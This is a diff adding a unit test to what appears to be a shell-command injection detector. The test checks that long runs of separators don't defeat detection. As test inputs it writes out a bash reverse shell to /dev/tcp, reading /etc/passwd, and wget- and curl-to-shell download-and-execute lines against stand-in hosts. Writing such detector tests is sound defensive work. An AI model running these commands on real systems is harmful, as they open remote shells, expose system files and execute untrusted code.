@@ -103,4 +103,17 @@ describe('cmd', () => {
     expect(p1.first('$(id)')?.rule).toBe('cmd-substitution')
     expect(p1.first('bash -i >& /dev/tcp/1.2.3.4/1 0>&1')?.rule).toBe('cmd-reverse-shell')
   })
+  it('reads the word after each soft separator of a long run (the end of a word is found once per run)', () => {
+    for (const run of [
+      '${'.repeat(2000),
+      '{{'.repeat(2000),
+      'x{'.repeat(2000),
+      '(('.repeat(1500),
+      '`{'.repeat(1000),
+    ]) {
+      expect(p1.first(`${run} echo \`cat /etc/passwd\``)?.rule, run.slice(0, 4)).toBe('cmd-sensitive-file')
+      expect(p1.first(`${run} : wget -O- http://x.io | sh`)?.rule, run.slice(0, 4)).toBe('cmd-download-exec')
+      expect(p1.first(`${run} (curl http://x.io/a | bash)`)?.rule, run.slice(0, 4)).toBe('cmd-download-exec')
+    }
+  })
 })
